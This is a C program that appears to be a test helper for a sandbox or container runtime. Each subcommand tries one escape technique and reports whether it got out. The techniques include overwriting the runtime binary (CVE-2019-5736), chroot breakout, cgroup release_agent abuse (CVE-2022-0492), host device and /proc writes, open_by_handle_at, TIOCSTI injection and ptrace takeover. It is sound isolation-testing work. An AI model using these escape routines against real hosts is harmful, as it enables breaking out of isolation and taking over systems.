// What a hostile program inside tries. usage: attack WHAT [ARGUMENT]...; exit status 0: it got out, 42: it did not.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// Looks at every process again and again for a program of this size, which is the runtime's, and overwrites it (CVE-2019-5736).
static int overwrite_runtime(long size, int seconds)
{
    time_t end = time(0) + seconds;
    while (time(0) < end) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        for (struct dirent *entry; (entry = readdir(proc));) {
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_RDONLY);
            struct stat stat;
            if (fd < 0)
                continue;
            if (fstat(fd, &stat) || stat.st_size != size) {
                close(fd);
                continue;
            }
            printf("found the runtime: %s\n", path);
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            while (time(0) < end + 2) {
                int out = open(path, O_WRONLY | O_TRUNC);
                if (out >= 0) {
                    if (write(out, "#!/bin/sh\n", 10) == 10)
                        printf("overwrote it\n");
                    return 0;
                }
                if (errno != ETXTBSY)
                    return 0; // it is in reach, which is bad enough
            }
            return 0;
        }
        closedir(proc);
    }
    return 1;
}

// A file of the host by all descriptors and by the directories above the working directory.
static int find_file(const char *host_path)
{
    char up[4096] = "", path[8192];
    for (int i = 0; i < 40; i++) {
        snprintf(path, sizeof path, "%s%s", *up ? up : ".", host_path);
        if (!access(path, F_OK)) {
            printf("%s\n", path);
            return 0;
        }
        strcat(up, *up ? "/.." : "..");
    }
    for (int fd = 3; fd < 1024; fd++) {
        *up = 0;
        for (int i = 0; i < 20; i++) {
            snprintf(path, sizeof path, "%s%s", *up ? up : ".", host_path);
            if (!faccessat(fd, path, F_OK, 0)) {
                printf("fd %d %s\n", fd, path);
                return 0;
            }
            strcat(up, *up ? "/.." : "..");
        }
    }
    return 1;
}

// Descriptors beyond 0 to 2.
static int leaked_descriptors(void)
{
    int found = 1;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) {
            char path[64], target[256] = "";
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            if (readlink(path, target, sizeof target - 1) < 0)
                strcpy(target, "?");
            printf("descriptor %d: %s\n", fd, target);
            found = 0;
        }
    return found;
}

// The classic way out of a chroot: a second chroot with the working directory outside.
static int break_chroot(const char *host_path)
{
    mkdir("/jail", 0700);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/jail"))
        return 1;
    fchdir(here);
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    return access(host_path, F_OK) ? 1 : 0;
}

// A new user namespace gives all capabilities in it; cgroup v1 then offers release_agent (CVE-2022-0492).
static int release_agent(void)
{
    static const char *const controllers[] = { "memory", "rdma", "freezer", "pids", "cpu", "devices", "name=x" };
    for (int with = 0; with < 2; with++) {
        if (with && unshare(0x10000000 | 0x02000000 | 0x00020000))
            return 1;
        mkdir("/tmp/cg", 0700);
        for (unsigned i = 0; i < sizeof controllers / sizeof *controllers; i++)
            if (!mount("cgroup", "/tmp/cg", "cgroup", 0, controllers[i])) {
                int fd = open("/tmp/cg/release_agent", O_WRONLY);
                if (fd >= 0 && write(fd, "/bin/true", 9) == 9)
                    return 0;
                umount("/tmp/cg");
            }
    }
    static const char *const places[] = { "memory", "rdma", "freezer", "pids", "cpu", "cpu,cpuacct", "devices", "systemd", "blkio", "cpuset", "net_cls", "perf_event" };
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        char path[128];
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", places[i]);
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && write(fd, "/bin/true", 9) == 9)
            return 0;
    }
    return 1;
}

// Files of /proc and /sys that change the host.
static int host_settings(void)
{
    static const char *const files[] = {
        "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/panic", "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled", "/proc/kcore", "/proc/irq/0/smp_affinity", "/sys/firmware/x", "/proc/timer_list", "/proc/sys/kernel/hotplug",
    };
    int found = 1;
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        char byte;
        int fd = open(files[i], O_WRONLY);
        if (fd >= 0 && !(fd >= 0 && strcmp(files[i], "/proc/kcore") == 0)) {
            // A masked file is /dev/null: writing does no harm.
            struct stat stat, null;
            if (!fstat(fd, &stat) && S_ISCHR(stat.st_mode) && !lstat("/dev/null", &null) && stat.st_rdev == null.st_rdev)
                continue;
            printf("writable: %s\n", files[i]);
            found = 0;
        }
        fd = open("/proc/kcore", O_RDONLY);
        if (fd >= 0 && read(fd, &byte, 1) == 1) {
            printf("readable: /proc/kcore\n");
            found = 0;
        }
    }
    return found;
}

// Devices of the host: the kernel's memory and disks.
static int host_devices(void)
{
    static const int numbers[][3] = { { S_IFCHR, 1, 1 }, { S_IFCHR, 1, 2 }, { S_IFCHR, 1, 4 }, { S_IFBLK, 254, 0 }, { S_IFBLK, 8, 0 }, { S_IFBLK, 259, 0 }, { S_IFBLK, 7, 0 } };
    int found = 1;
    for (unsigned i = 0; i < sizeof numbers / sizeof *numbers; i++) {
        char byte;
        unlink("/tmp/device");
        if (mknod("/tmp/device", numbers[i][0] | 0600, (unsigned)(numbers[i][1] << 8 | numbers[i][2])))
            continue;
        int fd = open("/tmp/device", O_RDWR);
        if (fd < 0)
            fd = open("/tmp/device", O_RDONLY);
        if (fd >= 0 && read(fd, &byte, 1) >= 0) {
            printf("device %d:%d opens\n", numbers[i][1], numbers[i][2]);
            found = 0;
        }
    }
    return found;
}

// open_by_handle_at(2) with guessed inode numbers ("shocker").
static int shocker(void)
{
    struct { unsigned bytes; int type; unsigned ino; unsigned generation; } handle = { 8, 1, 2, 0 };
    int mount = open("/etc/passwd", O_RDONLY);
    return syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY) >= 0 ? 0 : 1;
}

// Types into the terminal that the caller's shell reads from when this program is gone (CVE-2017-5226).
static int type_into_terminal(void)
{
    int tty = open("/dev/tty", O_RDWR), typed = 0;
    for (int fd = 0; fd < 3; fd++)
        typed |= !ioctl(fd, TIOCSTI, "\n");
    typed |= tty >= 0 && !ioctl(tty, TIOCSTI, "\n");
    if (!isatty(0)) {
        printf("no terminal\n");
        return 2;
    }
    return !typed;
}

// Two directories change places as fast as they can, as long as there is a file.
static int exchange(const char *one, const char *other, const char *until)
{
    while (!access(until, F_OK))
        syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
    return 1;
}

static unsigned long long permitted(const char *process)
{
    char path[64], line[256];
    unsigned long long set = 0;
    snprintf(path, sizeof path, "/proc/%s/status", process);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        sscanf(line, "CapPrm: %llx", &set);
    if (file)
        fclose(file);
    return set;
}

// Whether a process has something of the host's: the runtime as its program, the host's files in reach of its root, working directory or descriptors, the host's /proc, or more
// capabilities than this one.
static int has_loot(int pid, const char *host_path, long size, int is_ours)
{
    static const char *const links[] = { "root", "cwd" };
    char path[8192], name[16], up[256];
    struct stat stat, own_proc;
    int found = 0;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && !fstat(fd, &stat) && stat.st_size == size && (found = 1))
        printf("found the runtime: %s\n", path);
    close(fd);
    for (int i = 0; i < 2; i++) {
        *up = 0;
        for (int k = 0; k < 12; k++, strcat(up, "/.."))
            if (snprintf(path, sizeof path, "/proc/%d/%s%s%s", pid, links[i], up, host_path), !access(path, F_OK)) {
                printf("found the host: %s\n", path);
                found = 1;
                break;
            }
    }
    lstat("/proc/.", &own_proc);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    for (struct dirent *entry; fds && (entry = readdir(fds));) {
        snprintf(path, sizeof path, "/proc/%d/fd/%s/.", pid, entry->d_name);
        if (*entry->d_name == '.' || lstat(path, &stat))
            continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s/version", pid, entry->d_name);
        if (stat.st_dev != own_proc.st_dev && !access(path, F_OK) && (found = 1))
            printf("found another proc: %s\n", path);
        snprintf(path, sizeof path, "/proc/%d/fd/%s%s", pid, entry->d_name, host_path);
        if (!access(path, F_OK) && (found = 1))
            printf("found the host: %s\n", path);
    }
    if (fds)
        closedir(fds);
    snprintf(name, sizeof name, "%d", pid);
    unsigned long long more = permitted(name) & ~permitted("self");
    if (is_ours && more && (found = 1))
        printf("found capabilities: %llx of process %d\n", more, pid);
    return found;
}

// Takes over each process that comes into this pid namespace, as soon as it can, and looks at what it has. Ends early when there is a file /stop.
static int take_over(const char *host_path, long size, int seconds)
{
    time_t end = time(0) + seconds;
    int next = getpid() + 1, found = 0, seen = 0, taken = 0;
    while (time(0) < end && access("/stop", F_OK))
        for (int pid = next; pid < next + 4; pid++) {
            int is_ours = !ptrace(PTRACE_SEIZE, pid, 0, 0);
            if (!is_ours && errno == ESRCH)
                continue;
            next = pid + 1;
            seen++;
            taken += is_ours;
            if (is_ours && !ptrace(PTRACE_INTERRUPT, pid, 0, 0))
                for (int i = 0; i < 300 && !waitpid(pid, 0, __WALL | WNOHANG); i++)
                    usleep(1000);
            found |= has_loot(pid, host_path, size, is_ours);
            if (is_ours) {
                ptrace(PTRACE_DETACH, pid, 0, 0);
                continue;
            }
            for (int i = 0; i < 2000 && !kill(pid, 0) && access("/stop", F_OK); i++, usleep(1000)) // perhaps later
                if (has_loot(pid, host_path, size, 0) && (found = 1))
                    break;
        }
    printf("seen %d, taken %d\n", seen, taken);
    return !found;
}

// Holds up who executes a file, for as long as a lease can (45 s). Ends at the signal that tells of somebody.
static int hold_up(const char *path, int seconds)
{
    sigset_t set;
    int signal;
    sigemptyset(&set);
    sigaddset(&set, SIGIO);
    sigprocmask(SIG_BLOCK, &set, 0);
    int fd = open(path, O_RDONLY);
    if (fcntl(fd, F_SETLEASE, F_WRLCK)) {
        perror(path);
        return 2;
    }
    printf("waiting\n");
    sigwait(&set, &signal);
    printf("somebody is here\n");
    sleep(seconds);
    return 1;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "", *argument = argc > 2 ? argv[2] : "";
    setvbuf(stdout, 0, _IOLBF, 0);
    int result = 2;
    if (!strcmp(what, "overwrite_runtime"))
        result = overwrite_runtime(atol(argument), argc > 3 ? atoi(argv[3]) : 5);
    if (!strcmp(what, "find_file"))
        result = find_file(argument);
    if (!strcmp(what, "leaked_descriptors"))
        result = leaked_descriptors();
    if (!strcmp(what, "break_chroot"))
        result = break_chroot(argument);
    if (!strcmp(what, "release_agent"))
        result = release_agent();
    if (!strcmp(what, "host_settings"))
        result = host_settings();
    if (!strcmp(what, "host_devices"))
        result = host_devices();
    if (!strcmp(what, "exchange") && argc > 4)
        result = exchange(argument, argv[3], argv[4]);
    if (!strcmp(what, "tiocsti"))
        result = type_into_terminal();
    if (!strcmp(what, "take_over"))
        result = take_over(argument, argc > 3 ? atol(argv[3]) : 0, argc > 4 ? atoi(argv[4]) : 5);
    if (!strcmp(what, "hold_up"))
        result = hold_up(argument, argc > 3 ? atoi(argv[3]) : 2);
    if (!strcmp(what, "shocker"))
        result = shocker();
    return result == 1 ? 42 : result;
}
